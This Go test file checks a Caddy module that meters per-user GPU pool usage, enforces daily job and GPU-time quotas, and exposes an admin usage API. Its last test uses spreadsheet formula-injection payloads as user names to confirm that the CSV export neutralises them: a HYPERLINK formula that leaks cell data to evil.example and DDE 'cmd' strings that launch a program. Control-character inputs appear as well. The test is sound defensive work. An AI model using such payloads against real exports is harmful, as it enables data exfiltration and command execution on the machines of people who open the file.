package caddymodule_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/comfyume/comfyume/comfytest"
	"github.com/comfyume/comfyume/usage"
)

// adminClient talks to Caddy's admin API.
type adminClient struct {
	t    testing.TB
	addr string
}

func (a adminClient) do(method, path string, hdr ...string) (int, string, http.Header) {
	a.t.Helper()
	req, err := http.NewRequest(method, "http://"+a.addr+path, nil)
	if err != nil {
		a.t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		a.t.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

// rows reads GET /comfyume/usage with the query.
func (a adminClient) rows(query string) []usage.Row {
	a.t.Helper()
	st, body, hdr := a.do("GET", "/comfyume/usage"+query)
	var rows []usage.Row
	if st != 200 || !strings.HasPrefix(hdr.Get("Content-Type"), "application/json") || json.Unmarshal([]byte(body), &rows) != nil {
		a.t.Fatalf("GET /comfyume/usage%s: %d %s %s", query, st, hdr.Get("Content-Type"), body)
	}
	return rows
}

// row returns the one row of user on pool gpu today ("" pool: gpu).
func findRow(rows []usage.Row, user string) *usage.Row {
	for i := range rows {
		if rows[i].User == user && rows[i].Pool == "gpu" {
			return &rows[i]
		}
	}
	return nil
}

// waitRow waits until the user's row today satisfies ok (a job's use is
// recorded just after its end reaches the browser).
func (a adminClient) waitRow(user string, ok func(usage.Row) bool) usage.Row {
	a.t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		rows := a.rows("?user=" + user)
		if r := findRow(rows, user); r != nil && ok(*r) {
			return *r
		}
		if time.Now().After(deadline) {
			a.t.Fatalf("usage of %s never got there: %+v", user, rows)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func withAdmin(t testing.TB, cf string) (string, adminClient) {
	admin := fmt.Sprintf("127.0.0.1:%d", freePort(t))
	return strings.Replace(cf, "admin off", "admin "+admin, 1), adminClient{t: t, addr: admin}
}

// Each person's use of the pool is kept per day: GPU time within 5 % of
// what the GPU server spent on the job (the fake's step delay times its
// steps), the time a job waited behind another, the outcome, the bytes of
// the outputs. The admin API lists it as JSON and CSV and refuses bad
// queries with a clear 400; Prometheus has pool totals and no user label.
func TestUsagePerPerson(t *testing.T) {
	const step = 600 * time.Millisecond
	const steps = 2 // + EmptyImage, FakeSampler and SaveImage: 5 steps
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: step})
	cf, admin := withAdmin(t, poolCaddyfile(home.URL(), gpu.URL(), ""))
	g := startCaddy(t, cf)

	alice := g.openBrowser("alice", "", true)
	bob := g.openBrowser("bob", "", true)
	pa := g.queue("alice", alice.SID, samplerWorkflow("ua", steps))
	alice.waitType("execution_start", 10*time.Second)
	small := map[string]any{
		"1": map[string]any{"class_type": "EmptyImage", "inputs": map[string]any{"width": 8, "height": 8, "batch_size": 1, "color": 1}},
		"2": map[string]any{"class_type": "SaveImage", "inputs": map[string]any{"images": []any{"1", 0}, "filename_prefix": "ub"}},
	}
	pb := g.queue("bob", bob.SID, small) // waits for alice's (max_jobs 1)
	frames := alice.untilJobEnd(pa.PromptID, 20*time.Second)
	bob.untilJobEnd(pb.PromptID, 20*time.Second)

	want := (3 + steps) * step
	a := admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 1 })
	gpuTime := time.Duration(a.GPUSeconds * float64(time.Second))
	if gpuTime < want || gpuTime > want+want/20 {
		t.Fatalf("alice's GPU time %v, want %v within 5%%", gpuTime, want)
	}
	t.Logf("GPU time %v for %v of configured steps (%+.2f%%)", gpuTime, want, 100*(float64(gpuTime)/float64(want)-1))
	ref := outputRef(t, frames, "3")
	png, _ := gpu.OutputFile("output", "", ref["filename"].(string))
	if a.Success != 1 || a.Admitted != 1 || a.OutputBytes != int64(len(png)) || a.Day != time.Now().UTC().Format("2006-01-02") {
		t.Fatalf("alice's row: %+v (output %d bytes)", a, len(png))
	}
	b := admin.waitRow("bob", func(r usage.Row) bool { return r.Jobs == 1 })
	if wait := time.Duration(b.WaitSeconds * float64(time.Second)); wait < want*9/10 {
		t.Fatalf("bob waited behind alice's job (%v) but is accounted %v of waiting", gpuTime, wait)
	}

	// An interrupted job counts as interrupted.
	gpu.FailNext("hang")
	pc := g.queue("alice", alice.SID, samplerWorkflow("uc", 1))
	alice.waitType("execution_start", 10*time.Second)
	g.do("alice", "POST", "/api/interrupt", map[string]any{"prompt_id": pc.PromptID})
	alice.untilJobEnd(pc.PromptID, 20*time.Second)
	admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 2 && r.Interrupted == 1 && r.Success == 1 })

	// Filters and CSV.
	if rows := admin.rows("?user=bob&pool=gpu"); len(rows) != 1 || rows[0].User != "bob" {
		t.Fatalf("user=bob: %+v", rows)
	}
	if rows := admin.rows("?pool=other"); len(rows) != 0 {
		t.Fatalf("pool=other: %+v", rows)
	}
	if rows := admin.rows("?since=2020-01-01&until=2020-01-31"); len(rows) != 0 {
		t.Fatalf("a month long ago: %+v", rows)
	}
	for _, q := range []struct{ path, accept string }{{"?format=csv", ""}, {"", "text/csv"}} {
		st, body, hdr := admin.do("GET", "/comfyume/usage"+q.path, "Accept", q.accept)
		recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if st != 200 || err != nil || !strings.HasPrefix(hdr.Get("Content-Type"), "text/csv") || len(recs) != 3 ||
			strings.Join(recs[0], ",") != strings.Join(usage.Columns, ",") {
			t.Fatalf("CSV %q %q: %d %v %q", q.path, q.accept, st, err, body)
		}
		if recs[1][2] != "alice" || recs[1][3] != "2" || recs[2][2] != "bob" {
			t.Fatalf("CSV rows: %q", body)
		}
	}
	for q, want := range map[string]string{
		"?since=yesterday":                    "since",
		"?since=2026-02-30":                   "since",
		"?since=2026-05-02&until=2026-05-01":  "before",
		"?since=2020-01-01&until=2026-01-01":  "at most 400",
		"?usr=alice":                          "unknown parameter",
		"?user=a&user=b":                      "2 times",
		"?format=xml":                         "format",
		"?user=" + strings.Repeat("x", 2000):  "at most 1024",
		"?user=%0a":                           "control",
		"?since=" + strings.Repeat("9", 5000): "since",
	} {
		st, body, _ := admin.do("GET", "/comfyume/usage"+q)
		if st != 400 || !strings.Contains(body, want) || len(body) > 500 {
			t.Fatalf("GET /comfyume/usage%.60s: %d %.300s (want 400 saying %q)", q, st, body, want)
		}
	}
	if st, _, _ := admin.do("POST", "/comfyume/usage"); st != 405 {
		t.Fatalf("POST /comfyume/usage: %d", st)
	}

	_, m, _ := admin.do("GET", "/metrics")
	for _, want := range []string{
		`comfyume_pool_jobs_total{outcome="success",pool="gpu"} 2`,
		`comfyume_pool_jobs_total{outcome="interrupted",pool="gpu"} 1`,
		`comfyume_gpu_seconds_total{pool="gpu"}`,
		`comfyume_wait_seconds_total{pool="gpu"}`,
		`comfyume_output_bytes_total{pool="gpu"}`,
	} {
		if !strings.Contains(m, want) {
			t.Fatalf("/metrics lacks %s:\n%s", want, grepLines(m, "comfyume_"))
		}
	}
	if strings.Contains(m, `user="alice"`) {
		t.Fatalf("per-user series without metrics_per_user:\n%s", grepLines(m, "alice"))
	}
}

// quotaAnswer is a 403 quota refusal as the UI reads it.
type quotaAnswer struct {
	Error struct {
		Type      string         `json:"type"`
		Message   string         `json:"message"`
		Details   *string        `json:"details"`
		ExtraInfo map[string]any `json:"extra_info"`
	} `json:"error"`
	NodeErrors map[string]any `json:"node_errors"`
}

// checkQuota403 checks a refusal's shape: 403, ComfyUI's error body with
// empty node_errors (the legacy frontend iterates it), type
// quota_exceeded, and a message that says what was used and when the
// quota starts again, in words and as ISO time.
func checkQuota403(t *testing.T, st int, body []byte, used string) quotaAnswer {
	t.Helper()
	var a quotaAnswer
	if st != 403 || json.Unmarshal(body, &a) != nil || a.Error.Type != "quota_exceeded" || a.NodeErrors == nil || len(a.NodeErrors) != 0 || a.Error.Details == nil {
		t.Fatalf("over quota: %d %s", st, body)
	}
	midnight := time.Now().UTC().Truncate(24 * time.Hour).Add(24 * time.Hour).Format(time.RFC3339)
	for _, want := range []string{used, "midnight UTC", midnight, "in "} {
		if !strings.Contains(a.Error.Message, want) {
			t.Fatalf("quota message %q lacks %q", a.Error.Message, want)
		}
	}
	if a.Error.ExtraInfo["resets_at"] != midnight {
		t.Fatalf("extra_info %v", a.Error.ExtraInfo)
	}
	return a
}

// max_jobs_per_day refuses the prompt after the allowed ones at once, with
// a 403 both frontends show as a dialog; a per-user value from a map
// overrides the pool's; the operator can raise and reset a user's quota
// for today through the admin API.
func TestQuotaPromptsPerDay(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: time.Millisecond})
	cf := poolCaddyfile(home.URL(), gpu.URL(), "max_jobs_per_day {user_jobs}")
	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tmax_jobs_per_day 2", 1)
	cf = strings.Replace(cf, "\tcomfyume {\n\t\thome", "\tmap {http.request.header.X-User} {user_jobs} {\n\t\tbob 4\n\t\tcarol unlimited\n\t\tdefault \"\"\n\t}\n\tcomfyume {\n\t\thome", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	run := func(user string) (int, []byte) {
		t.Helper()
		st, b, _ := g.do(user, "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("q", 1)})
		if st == 200 {
			var a promptAnswer
			_ = json.Unmarshal(b, &a)
			g.waitStatus(user, a.PromptID, "completed", 20*time.Second)
		}
		return st, b
	}
	// Prompts count when admitted: one running and one waiting use up
	// the day's two. The waiting one, cancelled, is given back.
	gpu.FailNext("hang")
	br := g.openBrowser("alice", "", true)
	hung := g.queue("alice", br.SID, samplerWorkflow("h", 1))
	br.waitType("execution_start", 10*time.Second)
	waiting := g.queue("alice", br.SID, samplerWorkflow("w", 1))
	st, b, _ := g.do("alice", "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("x", 1)})
	checkQuota403(t, st, b, "2 prompts")
	if st, _, _ := g.do("alice", "POST", "/api/jobs/"+waiting.PromptID+"/cancel", nil); st != 200 {
		t.Fatalf("cancel: %d", st)
	}
	g.waitStatus("alice", waiting.PromptID, "cancelled", 10*time.Second)
	g.do("alice", "POST", "/api/interrupt", map[string]any{"prompt_id": hung.PromptID})
	g.waitStatus("alice", hung.PromptID, "cancelled", 10*time.Second)
	admin.waitRow("alice", func(r usage.Row) bool { return r.Admitted == 1 && r.Interrupted == 1 })
	if st, b := run("alice"); st != 200 {
		t.Fatalf("alice's second prompt after the cancelled one was given back: %d %s", st, b)
	}
	st, b = run("alice")
	checkQuota403(t, st, b, "2 prompts")
	for i := 0; i < 4; i++ {
		if st, b := run("bob"); st != 200 {
			t.Fatalf("bob (4 a day from the map) prompt %d: %d %s", i+1, st, b)
		}
	}
	st, b = run("bob")
	checkQuota403(t, st, b, "4 prompts")
	for i := 0; i < 3; i++ {
		if st, b := run("carol"); st != 200 {
			t.Fatalf("carol (unlimited) prompt %d: %d %s", i+1, st, b)
		}
	}

	// Raise alice by one prompt: one more, then refused again.
	st2, body, _ := admin.do("POST", "/comfyume/usage/alice/raise?jobs=1&pool=gpu")
	if st2 != 200 || !strings.Contains(body, `"extra_jobs":1`) {
		t.Fatalf("raise: %d %s", st2, body)
	}
	if st, b := run("alice"); st != 200 {
		t.Fatalf("after raise: %d %s", st, b)
	}
	st, b = run("alice")
	checkQuota403(t, st, b, "3 prompts")
	// Reset: the whole quota again.
	if st, body, _ := admin.do("POST", "/comfyume/usage/alice/reset"); st != 200 {
		t.Fatalf("reset: %d %s", st, body)
	}
	for i := 0; i < 2; i++ {
		if st, b := run("alice"); st != 200 {
			t.Fatalf("after reset, prompt %d: %d %s", i+1, st, b)
		}
	}
	st, _ = run("alice")
	if st != 403 {
		t.Fatalf("after reset and two prompts: %d", st)
	}
	if r := findRow(admin.rows("?user=alice"), "alice"); r == nil || r.Admitted != 5 || r.Jobs != 5 || r.QuotaJobs != 2 {
		t.Fatalf("alice's row: %+v", r)
	}
	for path, want := range map[string]int{
		"/comfyume/usage/alice/raise":               400,
		"/comfyume/usage/alice/raise?jobs=0":        400,
		"/comfyume/usage/alice/raise?gpu=-5m":       400,
		"/comfyume/usage/alice/raise?gpu=99999h":    400,
		"/comfyume/usage/alice/raise?jobs=1&x=1":    400,
		"/comfyume/usage/alice/raise?jobs=1&pool=x": 400,
		"/comfyume/usage/alice/reset?gpu=1m":        400,
		"/comfyume/usage/alice/delete":              404,
		"/comfyume/usage/%0a/reset":                 400,
	} {
		if st, body, _ := admin.do("POST", path); st != want {
			t.Fatalf("POST %s: %d %s, want %d", path, st, body, want)
		}
	}
	if st, body, _ := admin.do("POST", "/comfyume/usage/team%2Fa%7C1/raise?jobs=2"); st != 200 || !strings.Contains(body, `"user":"team/a|1"`) {
		t.Fatalf("raise for a user with / and | in the name: %d %s", st, body)
	}
	if st, _, _ := admin.do("GET", "/comfyume/usage/alice/reset"); st != 405 {
		t.Fatalf("GET reset: %d", st)
	}
	_, m, _ := admin.do("GET", "/metrics")
	if !strings.Contains(m, `comfyume_quota_refused_total{pool="gpu",quota="jobs"} 5`) {
		t.Fatalf("refusals:\n%s", grepLines(m, "refused"))
	}
}

// A GPU time quota is checked when a prompt is admitted against the time
// of the user's jobs that ended: the job that crosses it runs to its end
// (a running job is never cut), the next prompt is refused saying what
// was used; a per-user quota from a map overrides the pool's; raising it
// by GPU time lets the user in again.
func TestQuotaGPUTime(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: 200 * time.Millisecond})
	cf := poolCaddyfile(home.URL(), gpu.URL(), "quota {user_quota}")
	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tquota 1s per day", 1)
	cf = strings.Replace(cf, "\tcomfyume {\n\t\thome", "\tmap {http.request.header.X-User} {user_quota} {\n\t\tbob 1h\n\t\tdefault \"\"\n\t}\n\tcomfyume {\n\t\thome", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	for _, user := range []string{"alice", "bob"} {
		br := g.openBrowser(user, "", true)
		job := g.queue(user, br.SID, samplerWorkflow("g", 5)) // 8 steps: 1.6s
		frames := br.untilJobEnd(job.PromptID, 20*time.Second)
		if indexOf(frames, "execution_success") < 0 {
			t.Fatalf("the job that crossed the quota was cut: %v", types(frames))
		}
		admin.waitRow(user, func(r usage.Row) bool { return r.Jobs == 1 })
	}
	st, b, _ := g.do("alice", "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("g2", 1)})
	a := checkQuota403(t, st, b, "GPU time")
	if !strings.Contains(a.Error.Message, "2s of 1s") || a.Error.ExtraInfo["quota"] != "gpu_time" {
		t.Fatalf("GPU quota message: %q %v", a.Error.Message, a.Error.ExtraInfo)
	}
	if st, b, _ := g.do("bob", "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("g3", 1)}); st != 200 {
		t.Fatalf("bob's 1h quota from the map: %d %s", st, b)
	}
	if st, body, _ := admin.do("POST", "/comfyume/usage/alice/raise?gpu=10m"); st != 200 || !strings.Contains(body, `"extra_gpu_seconds":600`) {
		t.Fatalf("raise: %d %s", st, body)
	}
	if st, b, _ := g.do("alice", "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("g4", 1)}); st != 200 {
		t.Fatalf("after raising by 10m: %d %s", st, b)
	}
}

// Two replicas sharing Valkey admit exactly a user's max_jobs_per_day
// between them, however the prompts are spread and however many arrive
// at once; the usage API of either shows the same numbers.
func TestQuotaAcrossReplicas(t *testing.T) {
	valkeyAddr, s3 := sharedEnv(t)
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: time.Millisecond})
	prefix := testPrefix()
	base := sharedCaddyfile(prefix, valkeyAddr, s3, home.URL(), gpu.URL(), "")
	base = strings.Replace(base, "lost_timeout 5s\n\t\t\t}", "lost_timeout 5s\n\t\t\t}\n\t\t\tmax_jobs_per_day 3", 1)
	cfA, adminA := withAdmin(t, base)
	cfB, adminB := withAdmin(t, base)
	a := startCaddy(t, cfA)
	b := startReplica(t, cfB)
	const tries = 12
	var wg sync.WaitGroup
	codes := make([]int, tries)
	bodies := make([][]byte, tries)
	for i := 0; i < tries; i++ {
		g := a
		if i%2 == 1 {
			g = &b.gateway
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequest("POST", g.Base+"/api/prompt", strings.NewReader(fmt.Sprintf(`{"prompt":{"1":{"class_type":"EmptyImage","inputs":{"width":8,"height":8,"batch_size":1,"color":%d}},"2":{"class_type":"SaveImage","inputs":{"images":["1",0],"filename_prefix":"r"}}}}`, i)))
			req.Header.Set("X-User", "alice")
			req.Header.Set("Content-Type", "application/json")
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				return
			}
			defer resp.Body.Close()
			codes[i] = resp.StatusCode
			bodies[i], _ = io.ReadAll(resp.Body)
		}()
	}
	wg.Wait()
	admitted, refused := 0, 0
	for i, c := range codes {
		switch c {
		case 200:
			admitted++
		case 403:
			refused++
			checkQuota403(t, c, bodies[i], "3 prompts")
		default:
			t.Fatalf("prompt %d: %d %s", i, c, bodies[i])
		}
	}
	if admitted != 3 || refused != tries-3 {
		t.Fatalf("%d admitted and %d refused across two replicas, want 3 and %d: %v", admitted, refused, tries-3, codes)
	}
	for _, adm := range []adminClient{adminA, adminB} {
		r := adm.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 3 })
		if r.Admitted != 3 || r.Success != 3 || r.QuotaJobs != 3 {
			t.Fatalf("shared row: %+v", r)
		}
	}
	// A reset through one replica holds on the other.
	if st, body, _ := adminA.do("POST", "/comfyume/usage/alice/reset?pool=gpu"); st != 200 {
		t.Fatalf("reset: %d %s", st, body)
	}
	if st, body, _ := b.do("alice", "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("r2", 1)}); st != 200 {
		t.Fatalf("after a reset on the other replica: %d %s", st, body)
	}
}

// With metrics_per_user, user ids that are not UTF-8 (a header can carry
// any byte) — two of them that look alike once made valid — neither break
// the scrape nor the gateway.
func TestPerUserMetricsSurviveOddUserNames(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: time.Millisecond})
	cf := strings.Replace(poolCaddyfile(home.URL(), gpu.URL(), ""), "outputs disk {DATA}", "outputs disk {DATA}\n\t\tmetrics_per_user", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	for _, user := range []string{"x\xff", "x\xfe"} {
		a := g.queue(user, "", samplerWorkflow("o", 1))
		g.waitStatus(user, a.PromptID, "completed", 20*time.Second)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		st, m, _ := admin.do("GET", "/metrics")
		if st != 200 {
			t.Fatalf("/metrics: %d %s", st, m)
		}
		if strings.Contains(m, `comfyume_user_jobs_total{outcome="success",pool="gpu",user="x`+"\uFFFD"+`"} 2`) {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the two users' series:\n%s", grepLines(m, "comfyume_user_jobs"))
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// Jobs on pinned endpoints (transport worker) are accounted the same way:
// GPU time from the worker's stream, the bytes of the outputs that came
// with it, and a job whose GPU container died mid-job as lost.
func TestUsageOfPinnedJobs(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	d := workerDeployment(t, 2, "")
	cf, admin := withAdmin(t, strings.Replace(poolCaddyfile(home.URL(), d.URL(), ""), "max_jobs 1", "max_jobs 1\n\t\t\t\ttransport worker", 1))
	g := startCaddy(t, cf)
	b := g.openBrowser("alice", "", true)
	ok := g.queue("alice", b.SID, samplerWorkflow("pin", 2))
	frames := b.untilJobEnd(ok.PromptID, 30*time.Second)
	st, png, _ := g.do("alice", "GET", "/api/view?"+viewQuery(outputRef(t, frames, "3")), nil)
	if st != 200 || len(png) == 0 {
		t.Fatalf("output: %d", st)
	}
	r := admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 1 })
	if r.Success != 1 || r.OutputBytes != int64(len(png)) || r.GPUSeconds <= 0 {
		t.Fatalf("pinned job's row: %+v (output %d bytes)", r, len(png))
	}

	dies := g.queue("alice", b.SID, samplerWorkflow("dies", 200))
	b.waitType("progress", 10*time.Second)
	killed := false
	for i := 0; i < 2; i++ {
		for _, p := range d.Replica(i).Prompts() {
			if p.PromptID == dies.PromptID && !killed {
				d.Kill(i)
				killed = true
			}
		}
	}
	if !killed {
		t.Fatal("no replica runs the job")
	}
	b.untilJobEnd(dies.PromptID, 30*time.Second)
	r = admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 2 })
	if r.Lost != 1 || r.Success != 1 || r.Admitted != 2 {
		t.Fatalf("after the GPU container died mid-job: %+v", r)
	}
}

// A job that a pool's `fallback home` ran on the user's own ComfyUI did
// not use the pool: it is neither accounted nor counted against the quota.
func TestFallbackHomeJobsAreNotAccounted(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	dead := fmt.Sprintf("http://127.0.0.1:%d", freePort(t))
	cf := strings.Replace(poolCaddyfile(home.URL(), dead, ""), "pool gpu {", "pool gpu {\n\t\t\tcold_start_timeout 300ms\n\t\t\tfallback home\n\t\t\tmax_jobs_per_day 1", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	b := g.openBrowser("alice", "", true)
	for i := 0; i < 2; i++ {
		a := g.queue("alice", b.SID, samplerWorkflow("fb", 1))
		if frames := b.untilJobEnd(a.PromptID, 30*time.Second); indexOf(frames, "execution_success") < 0 {
			t.Fatalf("fallback job %d: %v", i, types(frames))
		}
		admin.waitRow("alice", func(r usage.Row) bool { return r.Admitted == 0 })
	}
	if r := findRow(admin.rows("?user=alice"), "alice"); r == nil || r.Jobs != 0 || r.GPUSeconds != 0 {
		t.Fatalf("home jobs accounted on the pool: %+v", r)
	}
}

// A prompt_id the user reuses once history_limit has forgotten its job is
// a new job that ran on the GPU again: it is charged again. (Recording was
// made idempotent per prompt id, so the rerun was free: a user could run
// long jobs past their GPU quota by pushing one id out of their history
// with small jobs and reusing it.)
func TestReusedPromptIDIsChargedAgain(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: 100 * time.Millisecond})
	cf := strings.Replace(poolCaddyfile(home.URL(), gpu.URL(), ""), "outputs disk {DATA}", "outputs disk {DATA}\n\t\thistory_limit 1", 1)
	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tquota 1h per day", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	br := g.openBrowser("mallory", "", true)
	long := uuid.NewString()
	run := func(id string, steps int) {
		t.Helper()
		body := map[string]any{"prompt": samplerWorkflow("r", steps), "client_id": br.SID}
		if id != "" {
			body["prompt_id"] = id
		}
		st, b, _ := g.do("mallory", "POST", "/api/prompt", body)
		var a promptAnswer
		if st != 200 || json.Unmarshal(b, &a) != nil || (id != "" && a.PromptID != id) {
			t.Fatalf("prompt: %d %s", st, b)
		}
		br.untilJobEnd(a.PromptID, 30*time.Second)
	}
	run(long, 5)
	first := admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 1 })
	run("", 1) // pushes the long job out of the history (history_limit 1)
	admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 2 })
	deadline := time.Now().Add(10 * time.Second)
	for st, _, _ := g.do("mallory", "GET", "/api/jobs/"+long, nil); st != 404; st, _, _ = g.do("mallory", "GET", "/api/jobs/"+long, nil) {
		if time.Now().After(deadline) {
			t.Fatalf("the first job was never forgotten: %d", st)
		}
		time.Sleep(20 * time.Millisecond)
	}
	second := admin.waitRow("mallory", func(r usage.Row) bool { return r.Jobs == 2 })
	run(long, 5) // the same id again: the GPU works as long again
	deadline = time.Now().Add(10 * time.Second)
	for {
		r := findRow(admin.rows("?user=mallory"), "mallory")
		if r.Jobs == 3 && r.GPUSeconds > second.GPUSeconds+first.GPUSeconds/2 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the rerun of a reused prompt_id was not charged: %+v (after the first two: %+v)", *r, second)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// Prompts admitted while the user was under their GPU time quota, but
// still waiting when their jobs that ended used it up, are not sent: each
// is told why (the quota message, as an execution_error) and given back.
// Before, every admitted prompt ran — up to max_queued of them past the
// quota.
func TestWaitingJobsStopAtGPUQuota(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu", StepDelay: 200 * time.Millisecond})
	cf := poolCaddyfile(home.URL(), gpu.URL(), "")
	cf = strings.Replace(cf, "max_jobs 1\n\t\t\t}", "max_jobs 1\n\t\t\t}\n\t\t\tquota 1s per day", 1)
	cf, admin := withAdmin(t, cf)
	g := startCaddy(t, cf)
	br := g.openBrowser("alice", "", true)
	first := g.queue("alice", br.SID, samplerWorkflow("q1", 5)) // 8 steps: 1.6s, past the quota
	var waiting []promptAnswer
	for i := 0; i < 3; i++ { // admitted: nothing has ended yet
		waiting = append(waiting, g.queue("alice", br.SID, samplerWorkflow(fmt.Sprint("w", i), 5)))
	}
	if f := br.untilJobEnd(first.PromptID, 20*time.Second); indexOf(f, "execution_success") < 0 {
		t.Fatalf("the job that crossed the quota was cut: %v", types(f))
	}
	// They end in any order: read until all three did.
	ended, errs, started := map[string]bool{}, map[string]string{}, map[string]bool{}
	deadline := time.Now().Add(20 * time.Second)
	for len(ended) < len(waiting) {
		f := br.next(time.Until(deadline))
		id := f.str("prompt_id")
		switch {
		case f.Type == "executing" && f.Data["node"] == nil && id != "":
			ended[id] = true
		case f.Type == "execution_error":
			errs[id] = f.str("exception_message")
		case f.Type == "execution_start":
			started[id] = true
		}
	}
	for _, w := range waiting {
		if started[w.PromptID] || !strings.Contains(errs[w.PromptID], "GPU time") {
			t.Fatalf("a job waiting past the quota: started %v, error %q", started[w.PromptID], errs[w.PromptID])
		}
	}
	r := admin.waitRow("alice", func(r usage.Row) bool { return r.Jobs == 1 && r.Admitted == 1 })
	if r.Success != 1 {
		t.Fatalf("alice's row: %+v", r)
	}
}

// User names that a spreadsheet would take for a formula (=, +, -, @ first)
// are written to the usage CSV with a leading apostrophe, so that opening
// the export runs nothing; a name that is a plain number stays as it is.
func TestUsageCSVNeutralisesFormulas(t *testing.T) {
	home := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "home"})
	gpu := comfytest.Start(t, comfytest.Options{Version: "2026", Name: "gpu"})
	cf, admin := withAdmin(t, poolCaddyfile(home.URL(), gpu.URL(), ""))
	g := startCaddy(t, cf)
	want := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		`+cmd|' /C calc'!A0`:                         `'+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`:                     `'-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`:                `'@SUM(1+1)*cmd|' /C calc'!A0`,
		`-5`:                                         `-5`,
	}
	for user := range want {
		if st, b, _ := g.do(user, "POST", "/api/prompt", map[string]any{"prompt": samplerWorkflow("c", 1)}); st != 200 {
			t.Fatalf("%q: %d %s", user, st, b)
		}
	}
	st, body, _ := admin.do("GET", "/comfyume/usage?format=csv")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if st != 200 || err != nil || len(recs) != len(want)+1 {
		t.Fatalf("CSV: %d %v\n%s", st, err, body)
	}
	for _, rec := range recs[1:] {
		found := false
		for _, w := range want {
			found = found || rec[2] == w
		}
		if !found {
			t.Fatalf("user cell %q is not one of the neutralised names %q", rec[2], want)
		}
	}
}
